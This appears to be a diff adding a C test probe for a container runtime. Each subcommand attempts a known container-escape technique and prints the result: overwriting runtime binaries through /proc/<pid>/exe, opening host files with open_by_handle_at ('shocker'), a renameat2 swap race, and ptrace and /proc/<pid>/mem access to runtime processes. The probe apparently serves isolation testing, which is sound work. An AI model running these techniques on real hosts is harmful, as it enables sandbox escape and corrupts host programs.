@@ -1,0 +1,190 @@
+/* What a shell cannot do in a container. Each word of the first argument is one deed; it prints what came of it. */
+#define _GNU_SOURCE
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <limits.h>
+#include <sched.h>
+#include <signal.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/mount.h>
+#include <sys/ptrace.h>
+#include <sys/socket.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <sys/ioctl.h>
+#include <sys/un.h>
+#include <sys/wait.h>
+#include <time.h>
+#include <unistd.h>
+
+static int say(const char *what, long result) {
+    if (result < 0) printf("%s: %s\n", what, strerrorname_np(errno) ? strerrorname_np(errno) : strerror(errno));
+    else printf("%s: %ld\n", what, result);
+    fflush(stdout);
+    return result < 0;
+}
+
+static double now(void) {
+    struct timespec t;
+    clock_gettime(CLOCK_MONOTONIC, &t);
+    return t.tv_sec + t.tv_nsec / 1e9;
+}
+
+/* syscall NUMBER [ARGUMENT...]: numbers, or text with a leading '@'. */
+static int do_syscall(int count, char **words) {
+    long a[7] = {0};
+    for (int i = 0; i < count && i < 7; i++)
+        a[i] = words[i][0] == '@' ? (long)(words[i] + 1) : (long)strtoull(words[i], 0, 0);
+    return say("syscall", syscall(a[0], a[1], a[2], a[3], a[4], a[5], a[6]));
+}
+
+/* exchange A B SECONDS: swaps two names as quickly as it can; says so once it does. */
+static int do_exchange(char **words) {
+    double end = now() + atof(words[2]);
+    long swaps = 0;
+    for (; swaps < 2 || now() < end; swaps++) {
+        if (syscall(SYS_renameat2, AT_FDCWD, words[0], AT_FDCWD, words[1], 2) < 0) return say("exchange", -1);
+        if (swaps == 0) say("exchanging", 1);
+    }
+    return say("exchange", swaps);
+}
+
+/* overwrite SECONDS: looks for a program that is not of this root behind /proc/<pid>/exe, and writes over it. */
+static int do_overwrite(char **words) {
+    double end = now() + atof(words[0]);
+    long tries = 0, wrote = 0;
+    struct stat own;
+    if (stat("/bin/probe", &own) < 0) return say("stat", -1);
+    say("overwriting", 1);
+    while (now() < end) {
+        DIR *proc = opendir("/proc");
+        struct dirent *entry;
+        while (proc && (entry = readdir(proc))) {
+            char path[64];
+            struct stat there;
+            int pid = atoi(entry->d_name);
+            if (pid <= 0 || pid == getpid()) continue;
+            snprintf(path, sizeof path, "/proc/%d/exe", pid);
+            if (stat(path, &there) < 0 || there.st_dev == own.st_dev && access("/bin/probe", F_OK) == 0 && there.st_ino == own.st_ino) continue;
+            char name[PATH_MAX] = "";
+            if (readlink(path, name, sizeof name - 1) > 0 && strncmp(name, "/bin/", 5) == 0) continue;
+            int handle = open(path, O_PATH);
+            if (handle < 0) continue;
+            tries++;
+            snprintf(path, sizeof path, "/proc/self/fd/%d", handle);
+            for (int i = 0; i < 2000; i++) {
+                int out = open(path, O_WRONLY | O_TRUNC);
+                if (out < 0 && errno == ETXTBSY) continue;
+                if (out >= 0 && write(out, "#!/bin/sh\n", 10) == 10) wrote++;
+                if (out >= 0) close(out);
+                break;
+            }
+            close(handle);
+        }
+        if (proc) closedir(proc);
+    }
+    printf("overwrite: tries %ld wrote %ld\n", tries, wrote);
+    return 0;
+}
+
+/* self: a handle on the program itself. */
+static int do_self(void) {
+    int handle = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
+    return say("self", handle);
+}
+
+/* hunt SECONDS: looks at every process but its own that comes: attach, open descriptors, working folder, memory. */
+static int do_hunt(char **words) {
+    double end = now() + atof(words[0]);
+    long seen = 0, attached = 0, folders = 0, memory = 0;
+    int last = 0;
+    struct stat root, there;
+    stat("/", &root);
+    say("hunting", 1);
+    while (now() < end) {
+        DIR *proc = opendir("/proc");
+        struct dirent *entry;
+        while (proc && (entry = readdir(proc))) {
+            char path[96], name[PATH_MAX];
+            int pid = atoi(entry->d_name);
+            if (pid <= 1 || pid == getpid()) continue;
+            if (pid != last) seen++;
+            last = pid;
+            for (int fd = 3; fd < 32; fd++) {
+                snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
+                if (stat(path, &there) == 0 && S_ISDIR(there.st_mode)) {
+                    int folder = open(path, O_RDONLY | O_DIRECTORY);
+                    if (folder >= 0 && faccessat(folder, "canary-of-the-host", F_OK, 0) == 0) folders++;
+                    if (folder >= 0) close(folder);
+                }
+            }
+            snprintf(path, sizeof path, "/proc/%d/cwd/canary-of-the-host", pid);
+            if (access(path, F_OK) == 0) folders++;
+            snprintf(path, sizeof path, "/proc/%d/root/canary-of-the-host", pid);
+            if (access(path, F_OK) == 0) folders++;
+            snprintf(path, sizeof path, "/proc/%d/exe", pid);
+            ssize_t length = readlink(path, name, sizeof name - 1);
+            name[length > 0 ? length : 0] = 0;
+            int foreign = length > 0 && (strstr(name, "belljar") || strstr(name, "runc") || strstr(name, "memfd"));
+            snprintf(path, sizeof path, "/proc/%d/mem", pid);
+            int mem = foreign ? open(path, O_RDWR) : -1;
+            if (mem >= 0) { memory++; close(mem); }
+            if (foreign && ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) { attached++; ptrace(PTRACE_DETACH, pid, 0, 0); }
+        }
+        if (proc) closedir(proc);
+    }
+    printf("hunt: seen %ld attached %ld folders %ld memory %ld\n", seen, attached, folders, memory);
+    return 0;
+}
+
+/* notify STATUS: refuses nothing, only tells a socket of systemd's protocol. */
+static int do_notify(char **words) {
+    const char *path = getenv("NOTIFY_SOCKET");
+    struct sockaddr_un address = {.sun_family = AF_UNIX};
+    if (!path) { printf("notify: no socket\n"); return 1; }
+    strncpy(address.sun_path, path, sizeof address.sun_path - 1);
+    int s = socket(AF_UNIX, SOCK_DGRAM, 0);
+    return say("notify", sendto(s, words[0], strlen(words[0]), 0, (struct sockaddr *)&address, sizeof address));
+}
+
+/* shocker PATH: a file of the host by its handle (open_by_handle_at needs a capability over the file system). */
+static int do_handle(char **words) {
+    struct { struct file_handle head; unsigned char bytes[128]; } handle;
+    int mount = 0;
+    handle.head.handle_bytes = 128;
+    if (name_to_handle_at(AT_FDCWD, words[0], &handle.head, &mount, 0) < 0) return say("handle", -1);
+    int folder = open(words[0], O_RDONLY);
+    return say("open", open_by_handle_at(folder, &handle.head, O_RDONLY));
+}
+
+static int do_masks(void) {
+    sigset_t set;
+    sigprocmask(0, 0, &set);
+    int blocked = 0, ignored = 0;
+    for (int i = 1; i < 32; i++) {
+        struct sigaction action;
+        blocked += sigismember(&set, i);
+        if (sigaction(i, 0, &action) == 0 && action.sa_handler == SIG_IGN) ignored++;
+    }
+    printf("blocked %d ignored %d\n", blocked, ignored);
+    return 0;
+}
+
+int main(int count, char **words) {
+    const char *deed = count > 1 ? words[1] : "";
+    char **rest = words + 2;
+    if (!strcmp(deed, "syscall")) return do_syscall(count - 2, rest);
+    if (!strcmp(deed, "exchange")) return do_exchange(rest);
+    if (!strcmp(deed, "overwrite")) return do_overwrite(rest);
+    if (!strcmp(deed, "self")) return do_self();
+    if (!strcmp(deed, "hunt")) return do_hunt(rest);
+    if (!strcmp(deed, "notify")) return do_notify(rest);
+    if (!strcmp(deed, "handle")) return do_handle(rest);
+    if (!strcmp(deed, "signals")) return do_masks();
+    fprintf(stderr, "no such deed: %s\n", deed);
+    return 2;
+}
